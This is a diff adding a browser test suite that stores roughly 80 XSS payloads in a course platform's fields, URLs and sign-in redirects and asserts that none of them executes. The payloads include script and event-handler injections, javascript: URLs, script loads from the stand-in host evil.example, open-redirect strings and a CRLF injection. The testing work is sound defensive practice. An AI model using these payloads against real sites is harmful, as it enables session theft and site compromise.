@@ -1,0 +1,293 @@
+// Script payloads in every stored field, on every page that shows them: nothing runs (catalogue IN5).
+import { type Page, buy, expect, hydrated, open, signIn, signUp, somebody, test, unique } from "./fixtures";
+import { dragByMouse, handle } from "./editor";
+
+const RUN = "window.__pwned=1";
+
+/** Each runs where it is taken as markup, address, template or script. */
+const PAYLOADS = [
+  `<script>${RUN}</script>`,
+  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
+  `</script><script>${RUN}</script>`,
+  `</title><script>${RUN}</script>`,
+  `</textarea><script>${RUN}</script>`,
+  `</style><script>${RUN}</script>`,
+  `</template><img src=x onerror=${RUN}>`,
+  `</noscript><script>${RUN}</script>`,
+  `--><script>${RUN}</script><!--`,
+  `]]><script>${RUN}</script>`,
+  `<script\n>${RUN}</script\n>`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `<img src=x onerror=${RUN}>`,
+  `<img src="x" onerror="${RUN}" `,
+  `<img src=x:alert(1) onerror=eval(src)>`,
+  `<img/src/onerror=${RUN}>`,
+  `<img src=\`x\` onerror=${RUN}>`,
+  `<image src=x onerror=${RUN}>`,
+  `"><img src=x onerror=${RUN}>`,
+  `'><img src=x onerror=${RUN}>`,
+  `" autofocus onfocus=${RUN} x="`,
+  `' autofocus onfocus=${RUN} x='`,
+  `" onmouseover="${RUN}`,
+  `\` onclick=${RUN} \``,
+  `<svg onload=${RUN}>`,
+  `<svg/onload=${RUN}>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
+  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
+  `<svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>X</text></a></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
+  `<svg><foreignObject><iframe srcdoc="<script>parent.__pwned=1</script>"></foreignObject></svg>`,
+  `<math><mtext></p><img src=x onerror=${RUN}>`,
+  `<math href="javascript:${RUN}">CLICK</math>`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
+  `<body onload=${RUN}>`,
+  `<body onpageshow=${RUN}>`,
+  `<iframe src="javascript:parent.__pwned=1"></iframe>`,
+  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
+  `<iframe onload=${RUN}></iframe>`,
+  `<object data="javascript:${RUN}"></object>`,
+  `<object data="data:text/html,<script>parent.__pwned=1</script>"></object>`,
+  `<embed src="javascript:${RUN}">`,
+  `<a href="javascript:${RUN}">x</a>`,
+  `<a href="java\tscript:${RUN}">x</a>`,
+  `<a href=" &#14; javascript:${RUN}">x</a>`,
+  `<a href="data:text/html,<script>opener.__pwned=1</script>">x</a>`,
+  `<a href="vbscript:msgbox(1)">x</a>`,
+  `<base href="//evil.example/">`,
+  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
+  `<link rel=stylesheet href=//evil.example/x.css>`,
+  `<style>@import '//evil.example/x.css';body{background:url(javascript:${RUN})}</style>`,
+  `<p style="background:url(//evil.example/x)">x</p>`,
+  `<form action="javascript:${RUN}"><button>x</button></form>`,
+  `<button formaction="javascript:${RUN}">x</button>`,
+  `<input autofocus onfocus=${RUN}>`,
+  `<select autofocus onfocus=${RUN}>`,
+  `<video><source onerror=${RUN}></video>`,
+  `<video src=x onerror=${RUN}></video>`,
+  `<audio src=x onerror=${RUN}></audio>`,
+  `<details open ontoggle=${RUN}>x</details>`,
+  `<marquee onstart=${RUN}>x</marquee>`,
+  `<dialog open onclose=${RUN}>x</dialog>`,
+  `<div popover id=p onbeforetoggle=${RUN}></div><button popovertarget=p autofocus>x</button>`,
+  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
+  `[x](javascript:${RUN})`,
+  `[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+)`,
+  `![x](x"onerror="${RUN})`,
+  `![x](javascript:${RUN})`,
+  `<javascript:${RUN}>`,
+  `[x]: javascript:${RUN}\n[x]`,
+  `\`\`\`"><img src=x onerror=${RUN}>\nx\n\`\`\``,
+  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
+  `\${${RUN}}{{${RUN}}}{%${RUN}%}#{${RUN}}`,
+  `\u2028${RUN}\u2029`,
+  `&lt;script&gt;${RUN}&lt;/script&gt;`,
+  `\u003cscript\u003e${RUN}\u003c/script\u003e`,
+  `<x onclick=${RUN} tabindex=1 autofocus onfocus=${RUN}>x`,
+  `";${RUN};"`,
+  `';${RUN};//`,
+];
+
+/** One line of at most 200 characters, as names take it. */
+const NAMES = PAYLOADS.map((payload) => payload.replaceAll(/[\s\u2028\u2029]+/g, " ").slice(0, 200));
+
+/** As many names a field as fit. */
+function packed(limit: number): string[] {
+  const fields = [""];
+  for (const name of NAMES) {
+    if (fields.at(-1)!.length + name.length > limit) fields.push("");
+    fields[fields.length - 1] += name;
+  }
+  return fields;
+}
+
+/** What must hold on a page that shows payloads. */
+async function harmless(page: Page, where: string) {
+  const found = await page.evaluate(() => {
+    const inert = (element: Element) => element.closest("template") !== null;
+    return {
+      pwned: (window as unknown as Record<string, unknown>).__pwned,
+      handlers: [...document.querySelectorAll("*")]
+        .filter((element) => !inert(element) && element.getAttributeNames().some((name) => name.startsWith("on")))
+        .map((element) => element.outerHTML.slice(0, 100)),
+      addresses: [...document.querySelectorAll("[href], [src], [action], [formaction], [data], [srcdoc]")]
+        .filter((element) =>
+          ["href", "src", "action", "formaction", "data", "srcdoc", "xlink:href"].some((name) =>
+            /^[\s\u0000-\u0020]*(javascript|vbscript|data:text)/i.test(element.getAttribute(name) ?? ""),
+          ),
+        )
+        .map((element) => element.outerHTML.slice(0, 100)),
+      foreign: document.querySelectorAll("main :is(iframe, object, embed, base, meta, link:not([rel=canonical]), style, form[action^=java], math, dialog)").length,
+      scripts: [...document.scripts].filter((script) => !script.nonce && script.type !== "application/ld+json").length,
+      headings: document.querySelectorAll("h1").length,
+    };
+  });
+  expect.soft(found, where).toEqual({ pwned: undefined, handlers: [], addresses: [], foreign: 0, scripts: 0, headings: 1 });
+}
+
+test("script in every stored field runs on no page", async ({ page, context, author, another, watch }) => {
+  test.setTimeout(180_000);
+  expect(PAYLOADS.length).toBeGreaterThanOrEqual(60);
+  const everything = PAYLOADS.join("\n\n");
+
+  // Every field of every table that a person can fill, by the forms' own requests.
+  const names = packed(200);
+  const course = await author.course(names[0]!);
+  const sections = await Promise.all([author.section(course.id, names[1]!), author.section(course.id, names[2]!)]);
+  await author.request.post("/api/admin/update_course", {
+    form: { id: course.id, "form[title]": names[0]!, "form[description]": everything },
+  });
+  const lessons: string[] = [];
+  for (const [at, name] of NAMES.entries()) {
+    lessons.push(await author.lesson(course.id, sections[at % 2]!, { name, markdown: at < 3 ? everything : (PAYLOADS[at] ?? ""), status: at % 7 === 0 ? "preview" : "public" }));
+  }
+  const title = unique("Hostile");
+  const products = [
+    await author.product(`${title}${names[3]!.slice(0, 150)}`, [course.id], { description: everything, image: `/favicon.svg?"onerror=${RUN}'><script>${RUN}</script>`.replaceAll(/\s/g, "") }),
+    await author.product(`${names[4]!.slice(0, 150)}${title}`, [course.id], { description: everything, price: "0" }),
+  ];
+  const buyer = await another();
+  const person = { ...somebody(), name: names[5]!, email: `"><img/src/onerror=${RUN}>${Date.now()}@example.org` };
+  await signUp(buyer, person);
+  for (const product of products) await buy(buyer, product);
+  const purchases: { id: string }[] = await (await buyer.request.post("/api/list_purchases", { form: {} })).json();
+  expect(purchases).toHaveLength(2);
+
+  // Addresses that would run are refused where they are stored.
+  for (const address of [`javascript:${RUN}`, `data:text/html,<script>${RUN}</script>`, "//evil.example/x.png", "\\\\evil.example\\x", `java\tscript:${RUN}`, "http://evil.example/x.png"]) {
+    const picture = await author.request.post("/api/admin/create_product", {
+      form: { "form[name]": "x", "form[price_dollars]": "1", "form[image_url]": address },
+      headers: { accept: "application/json" },
+    });
+    expect.soft(picture.status(), `picture ${address}`).toBe(400);
+    const video = await author.request.post("/api/admin/create_lesson", {
+      form: { course: course.id, section: sections[0]!, "form[name]": "x", "form[video_url]": address },
+      headers: { accept: "application/json" },
+    });
+    expect.soft(video.status(), `video ${address}`).toBe(400);
+  }
+
+  // As a visitor, as the buyer, as the author: from the server and rendered in the browser.
+  await open(page, "/");
+  await harmless(page, "storefront");
+  for (const product of products) {
+    await open(page, `/products/${product}`);
+    await harmless(page, "product");
+  }
+  await open(page, `/courses/${course.id}`);
+  await harmless(page, "course, visitor");
+  await open(page, `/courses/${course.id}/lessons/${lessons[0]}`);
+  await harmless(page, "preview");
+
+  const learner = await buyer.newPage();
+  for (const path of ["/courses", "/purchases", ...purchases.map(({ id }) => `/purchases/${id}`), `/products/${products[0]}/purchase`, `/courses/${course.id}`]) {
+    await open(learner, path);
+    await harmless(learner, `learner ${path}`);
+  }
+  await open(learner, `/courses/${course.id}/lessons/${lessons[0]}`);
+  await harmless(learner, "lesson");
+  // Rendered in the browser: on by Next through some of them, each address in the text pressed.
+  for (let steps = 0; steps < 12; steps += 1) {
+    const before = await learner.title();
+    await learner.getByRole("navigation", { name: "Lessons before and after" }).locator("a[rel=next]").click();
+    await expect(learner).not.toHaveTitle(before);
+    await harmless(learner, `lesson by Next ${steps}`);
+  }
+  await learner.locator(".prose a").evaluateAll((links) => links.forEach((link) => link.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true, ctrlKey: true }))));
+  await harmless(learner, "links pressed");
+
+  await signIn(context, "author");
+  for (const path of [
+    "/admin/courses",
+    `/admin/courses/${course.id}/edit`,
+    `/admin/courses/${course.id}/delete`,
+    `/admin/sections/${sections[0]}/edit`,
+    `/admin/sections/${sections[0]}/delete`,
+    `/admin/sections/${sections[0]}/lessons/new`,
+    `/admin/lessons/${lessons[0]}/edit`,
+    `/admin/lessons/${lessons[0]}/move`,
+    `/admin/lessons/${lessons[0]}/delete`,
+    "/admin/products",
+    "/admin/products/new",
+    `/admin/products/${products[0]}/edit`,
+    `/admin/products/${products[0]}/delete`,
+    "/admin/sales",
+  ]) {
+    await open(page, path);
+    await harmless(page, `author ${path}`);
+  }
+  // What is typed comes back as it was typed.
+  await open(page, `/admin/lessons/${lessons[0]}/edit`);
+  expect((await page.getByLabel(/^Text/).inputValue()).replaceAll("\r\n", "\n")).toBe(everything);
+
+  // Announced, dragged, said in a notice.
+  await open(page, `/admin/courses/${course.id}/edit`);
+  const first = page.locator(".editor-lessons .handle").first();
+  await first.focus();
+  for (const key of ["Space", "ArrowDown", "Space"]) await page.keyboard.press(key);
+  await expect(page.getByText("Order saved")).toBeVisible();
+  await harmless(page, "an announced move");
+
+  // The products leave the storefront, which other tests read.
+  for (const [at, product] of products.entries()) {
+    await author.request.post("/api/admin/update_product", {
+      form: { id: product, "form[name]": `${title} ${at}`, "form[price_dollars]": "1", "form[status]": "private", "courses[0]": course.id },
+      headers: { accept: "application/json" },
+    });
+  }
+  expect(watch.problems).toEqual([]);
+});
+
+test("script in addresses, errors and ways back runs nowhere", async ({ page, watch }) => {
+  watch.announceStatus(404);
+  watch.announceStatus(400);
+  watch.announceStatus(403);
+  const payload = `"><img src=x onerror=${RUN}><script>${RUN}</script>`;
+  const forged = asCarried(JSON.stringify({ Invalid: [["email", payload], [payload, payload]] }));
+  const refused = asCarried(JSON.stringify({ Conflict: { Refused: payload } }));
+  const encoded = encodeURIComponent(payload);
+  for (const path of [
+    `/${encoded}`,
+    `/products/${encoded}`,
+    `/courses/${encoded}/lessons/${encoded}`,
+    `/sign-in?next=${encoded}`,
+    `/sign-up?next=javascript:${RUN}`,
+    `/sign-in?__path=%2Fapi%2Fsign_in&__err=${forged}`,
+    `/sign-in?__path=%2Fapi%2Fsign_in&__err=${refused}`,
+    `/sign-up?__path=%2Fapi%2Fsign_up&__err=${encoded}`,
+    `/?__path=${encoded}&__err=${encoded}`,
+    `/#${encoded}`,
+  ]) {
+    await page.goto(path);
+    await expect.soft(page.locator("html[data-hydrated]"), path).toBeAttached();
+    await harmless(page, path);
+  }
+
+  // The way back after signing in leads nowhere else.
+  for (const next of ["//evil.example/", "https://evil.example/", "/\\evil.example", `javascript:${RUN}`, "/%0d%0aset-cookie:x=1", "\\\\evil.example"]) {
+    await page.context().clearCookies();
+    await open(page, `/sign-in?next=${encodeURIComponent(next)}`);
+    await page.getByRole("button", { name: "Sign in as a learner" }).click();
+    await expect(page.getByRole("heading", { level: 1, name: "My courses" })).toBeVisible();
+    await hydrated(page);
+    await harmless(page, `next ${next}`);
+  }
+});
+
+/** Base64 as the way of a refused form without script carries its error. */
+function asCarried(text: string): string {
+  return encodeURIComponent(btoa(text).replaceAll("+", "-").replaceAll("/", "_"));
+}
+
+test("a row with a hostile name is dragged like any other", async ({ page, context, author, watch }) => {
+  const course = await author.course(unique("Quotes"), { [`S"'<b>`]: [`"]`, `'); ${RUN}//`, `\\"] *`] });
+  await signIn(context, "author");
+  await open(page, `/admin/courses/${course.id}/edit`);
+  await dragByMouse(page, `\\"] *`, "above", `"]`);
+  await expect(page.getByText("Order saved")).toBeVisible();
+  await expect(handle(page, `\\"] *`)).toBeFocused();
+  await expect(page.locator("#live")).toHaveText(`“\\"] *” is lesson 1 of 3.`);
+  await harmless(page, "the editor");
+  expect(watch.problems).toEqual([]);
+});
